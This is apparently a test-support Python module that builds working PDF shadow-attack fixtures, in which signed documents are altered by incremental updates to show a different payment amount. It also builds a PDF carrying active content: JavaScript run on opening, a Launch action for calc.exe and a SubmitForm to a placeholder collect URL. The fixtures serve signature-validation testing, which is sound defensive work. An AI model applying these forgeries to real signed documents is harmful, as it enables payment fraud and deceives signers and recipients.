"""Documents that show one thing when signed and another after an incremental update: the
shadow attacks of Mainka et al. (NDSS 2021: hide, replace, hide-and-replace), an opaque
overlay annotation, replaced fonts, images and content streams; and the allowed changes
beside them (a comment beside the text). Each builder is a function of a *signed* document
made from :func:`shadow_base`; they are built for the class of change, not for one file."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

from pyhanko.pdf_utils import generic as gen
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter as Writer

from tests.support.pdfs import _minimal_pdf, pdf_stream

__all__ = [
    "AMOUNT_LINE",
    "HIDDEN_LINE",
    "SHADOW_ATTACKS",
    "comment_beside",
    "fill_drawn",
    "javascript_pdf",
    "lined_form",
    "shadow_base",
]

AMOUNT_LINE = (72, 752, 360, 780)
"""Where the signed amount is written (PDF points): x1, y1, x2, y2."""
HIDDEN_LINE = (60, 540, 400, 590)
"""Where the shadow text lies under a white overlay in the signed revision."""

_CONTENT = (
    b"BT /F1 18 Tf 72 760 Td (Amount: 1,000,000 VND) Tj ET\n"
    b"q 100 0 0 100 72 620 cm /Im1 Do Q\n"
    b"BT /F1 16 Tf 72 560 Td (PAY 999,000,000 VND TO MALLORY) Tj ET\n"
    b"q /Fm1 Do Q\n"
)


def shadow_base() -> bytes:
    """One page: the amount in Helvetica (font F1), a grey image (Im1), and a line of shadow
    text covered by a white form XObject (Fm1), as a shadow document is prepared."""
    grey = zlib.compress(bytes([0x80] * 16 * 16))
    return _minimal_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 7 0 R "
            b"/Resources << /Font << /F1 4 0 R >> /XObject << /Im1 5 0 R /Fm1 6 0 R >> >> >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            pdf_stream(
                b"/Type /XObject /Subtype /Image /Width 16 /Height 16 /ColorSpace /DeviceGray "
                b"/BitsPerComponent 8 /Filter /FlateDecode",
                grey,
            ),
            pdf_stream(
                b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]",
                b"1 g 60 540 340 50 re f",
            ),
            pdf_stream(b"", _CONTENT),
        ]
    )


def _update(pdf: bytes, change: Callable[[Writer], None]) -> bytes:
    writer = Writer(io.BytesIO(pdf))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _resources(writer: Writer) -> gen.DictionaryObject:
    page = writer.find_page_for_modification(0)[0].get_object()
    resources: gen.DictionaryObject = page["/Resources"]
    return resources


def _replace(writer: Writer, ref: gen.IndirectObject, value: gen.PdfObject) -> None:
    writer.objects[(ref.generation, ref.idnum)] = value


def hide(signed: bytes) -> bytes:
    """The white overlay form XObject emptied: the shadow text, signed but hidden, shows."""

    def change(writer: Writer) -> None:
        ref = _resources(writer)["/XObject"].raw_get("/Fm1")
        _replace(
            writer,
            ref,
            gen.StreamObject(
                {
                    gen.NameObject("/Type"): gen.NameObject("/XObject"),
                    gen.NameObject("/Subtype"): gen.NameObject("/Form"),
                    gen.NameObject("/BBox"): gen.ArrayObject(
                        [gen.NumberObject(v) for v in (0, 0, 595, 842)]
                    ),
                },
                stream_data=b"",
            ),
        )

    return _update(signed, change)


def replace_font(signed: bytes) -> bytes:
    """The font object the amount is drawn with replaced (other glyphs for the same codes)."""

    def change(writer: Writer) -> None:
        ref = _resources(writer)["/Font"].raw_get("/F1")
        font = gen.DictionaryObject(
            {
                gen.NameObject("/Type"): gen.NameObject("/Font"),
                gen.NameObject("/Subtype"): gen.NameObject("/Type1"),
                gen.NameObject("/BaseFont"): gen.NameObject("/Courier-Bold"),
            }
        )
        _replace(writer, ref, font)

    return _update(signed, change)


def replace_image(signed: bytes) -> bytes:
    """The image XObject replaced by a black one."""

    def change(writer: Writer) -> None:
        ref = _resources(writer)["/XObject"].raw_get("/Im1")
        image = gen.StreamObject(
            {
                gen.NameObject("/Type"): gen.NameObject("/XObject"),
                gen.NameObject("/Subtype"): gen.NameObject("/Image"),
                gen.NameObject("/Width"): gen.NumberObject(16),
                gen.NameObject("/Height"): gen.NumberObject(16),
                gen.NameObject("/ColorSpace"): gen.NameObject("/DeviceGray"),
                gen.NameObject("/BitsPerComponent"): gen.NumberObject(8),
            },
            stream_data=bytes(16 * 16),
        )
        _replace(writer, ref, image)

    return _update(signed, change)


def replace_content(signed: bytes) -> bytes:
    """The page's content stream rewritten in place (same object number): another amount."""

    def change(writer: Writer) -> None:
        page = writer.find_page_for_modification(0)[0].get_object()
        ref = page.raw_get("/Contents")
        _replace(
            writer,
            ref,
            gen.StreamObject(stream_data=_CONTENT.replace(b"1,000,000", b"9,000,000")),
        )

    return _update(signed, change)


def hide_and_replace(signed: bytes) -> bytes:
    """Hide-and-replace: the page is pointed at a new content stream that draws only the
    shadow text where the amount was (the signed view is replaced wholesale)."""

    def change(writer: Writer) -> None:
        page_ref = writer.find_page_for_modification(0)[0]
        page = page_ref.get_object()
        page["/Contents"] = writer.add_object(
            gen.StreamObject(stream_data=b"BT /F1 18 Tf 72 760 Td (Amount: 9,000,000 VND) Tj ET")
        )
        writer.update_container(page)

    return _update(signed, change)


def _annotation(
    writer: Writer, subtype: str, rect: tuple[float, float, float, float], drawing: bytes
) -> None:
    page_ref = writer.find_page_for_modification(0)[0]
    page = page_ref.get_object()
    x1, y1, x2, y2 = rect
    appearance = writer.add_object(
        gen.StreamObject(
            {
                gen.NameObject("/Type"): gen.NameObject("/XObject"),
                gen.NameObject("/Subtype"): gen.NameObject("/Form"),
                gen.NameObject("/BBox"): gen.ArrayObject(
                    [gen.FloatObject(v) for v in (0, 0, x2 - x1, y2 - y1)]
                ),
                gen.NameObject("/Resources"): gen.DictionaryObject(
                    {
                        gen.NameObject("/Font"): gen.DictionaryObject(
                            {gen.NameObject("/F1"): _resources(writer)["/Font"].raw_get("/F1")}
                        )
                    }
                ),
            },
            stream_data=drawing,
        )
    )
    note = gen.DictionaryObject(
        {
            gen.NameObject("/Type"): gen.NameObject("/Annot"),
            gen.NameObject("/Subtype"): gen.NameObject(subtype),
            gen.NameObject("/Rect"): gen.ArrayObject([gen.FloatObject(v) for v in rect]),
            gen.NameObject("/Contents"): gen.TextStringObject("ghi chú"),
            gen.NameObject("/F"): gen.NumberObject(4),
            gen.NameObject("/P"): page_ref,
            gen.NameObject("/AP"): gen.DictionaryObject({gen.NameObject("/N"): appearance}),
        }
    )
    annots = page.get("/Annots", gen.ArrayObject())
    annots.append(writer.add_object(note))
    page["/Annots"] = annots
    writer.update_container(page)


def overlay_annotation(signed: bytes) -> bytes:
    """An opaque FreeText comment laid over the signed amount, showing another amount (a
    comment is allowed; one that covers signed content is not)."""

    def change(writer: Writer) -> None:
        x1, y1, x2, y2 = AMOUNT_LINE
        drawing = b"1 g 0 0 %d %d re f 0 g BT /F1 18 Tf 0 8 Td (Amount: 9,000,000 VND) Tj ET" % (
            x2 - x1,
            y2 - y1,
        )
        _annotation(writer, "/FreeText", AMOUNT_LINE, drawing)

    return _update(signed, change)


def comment_beside(signed: bytes) -> bytes:
    """A FreeText comment in the empty lower part of the page: allowed, with a warning."""

    def change(writer: Writer) -> None:
        drawing = b"0 0 1 rg BT /F1 12 Tf 2 6 Td (Checked by the clerk) Tj ET"
        _annotation(writer, "/FreeText", (72, 200, 300, 224), drawing)

    return _update(signed, change)


SHADOW_ATTACKS: dict[str, tuple[Callable[[bytes], bytes], tuple[float, float, float, float]]] = {
    "hide": (hide, HIDDEN_LINE),
    "replace_font": (replace_font, AMOUNT_LINE),
    "replace_image": (replace_image, (72, 620, 172, 720)),
    "replace_content_stream": (replace_content, AMOUNT_LINE),
    "hide_and_replace": (hide_and_replace, AMOUNT_LINE),
    "overlay_annotation": (overlay_annotation, AMOUNT_LINE),
}
"""Attack -> where on page 1 the change must be named (PDF points)."""


def javascript_pdf() -> bytes:
    """Active content of every kind: JavaScript run on opening and in the name tree, a
    SubmitForm action on a link, a Launch action, an embedded file and an XFA form packet."""
    embedded = pdf_stream(b"/Type /EmbeddedFile", b"secret payload")
    return _minimal_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript "
            b"<< /Names [(init) 6 0 R] >> /EmbeddedFiles << /Names [(payload.txt) 8 0 R] >> >> "
            b"/AcroForm << /Fields [] /XFA 10 0 R >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 11 0 R >> >> /Annots [9 0 R 12 0 R] >>",
            pdf_stream(b"", b"BT /F1 18 Tf 72 760 Td (A form with scripts) Tj ET"),
            b"<< /S /JavaScript /JS (app.alert\\('opened'\\);) >>",
            b"<< /S /JavaScript /JS (this.print\\(\\);) >>",
            embedded,
            b"<< /Type /Filespec /F (payload.txt) /EF << /F 7 0 R >> >>",
            b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /SubmitForm "
            b"/F << /FS /URL /F (https://example.invalid/collect) >> >> >>",
            pdf_stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Type /Annot /Subtype /Link /Rect [72 650 200 670] /A << /S /Launch "
            b"/F (calc.exe) >> >>",
        ]
    )


def lined_form() -> bytes:
    """A form whose page draws an underline inside the name field, and a second field laid
    over the signed amount (both empty when signed)."""
    blank = pdf_stream(b"/Type /XObject /Subtype /Form /BBox [0 0 300 30]", b"/Tx BMC EMC")
    return _minimal_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R 8 0 R] "
            b"/DA (/Helv 12 Tf 0 g) /DR << /Font << /Helv 6 0 R >> >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /Helv 6 0 R >> >> /Annots [5 0 R 8 0 R] >>",
            pdf_stream(
                b"",
                b"BT /Helv 18 Tf 72 760 Td (Amount: 1,000,000 VND) Tj ET "
                b"BT /Helv 12 Tf 72 724 Td (Full name:) Tj ET 0.4 G 1 w 72 702 m 272 702 l S",
            ),
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (full_name) /Rect [72 698 272 720] "
            b"/F 4 /P 3 0 R /DA (/Helv 12 Tf 0 g) /AP << /N 7 0 R >> >>",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            blank,
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (note) /Rect [72 752 360 780] "
            b"/F 4 /P 3 0 R /DA (/Helv 12 Tf 0 g) /AP << /N 9 0 R >> >>",
            blank,
        ]
    )


def fill_drawn(signed: bytes, name: str, value: str, drawing: bytes) -> bytes:
    """Fill a text field as a reader does: the value, and a new appearance drawing it."""

    def change(writer: Writer) -> None:
        for ref in writer.root["/AcroForm"]["/Fields"]:
            field = ref.get_object()
            if field.get("/T") != name:
                continue
            x1, y1, x2, y2 = (float(v) for v in field["/Rect"])
            appearance = writer.add_object(
                gen.StreamObject(
                    {
                        gen.NameObject("/Type"): gen.NameObject("/XObject"),
                        gen.NameObject("/Subtype"): gen.NameObject("/Form"),
                        gen.NameObject("/BBox"): gen.ArrayObject(
                            [gen.FloatObject(v) for v in (0, 0, x2 - x1, y2 - y1)]
                        ),
                        gen.NameObject("/Resources"): gen.DictionaryObject(
                            {gen.NameObject("/Font"): writer.root["/AcroForm"]["/DR"]["/Font"]}
                        ),
                    },
                    stream_data=b"/Tx BMC " + drawing + b" EMC",
                )
            )
            field["/V"] = gen.TextStringObject(value)
            field["/AP"] = gen.DictionaryObject({gen.NameObject("/N"): appearance})
            writer.update_container(field)

    return _update(signed, change)
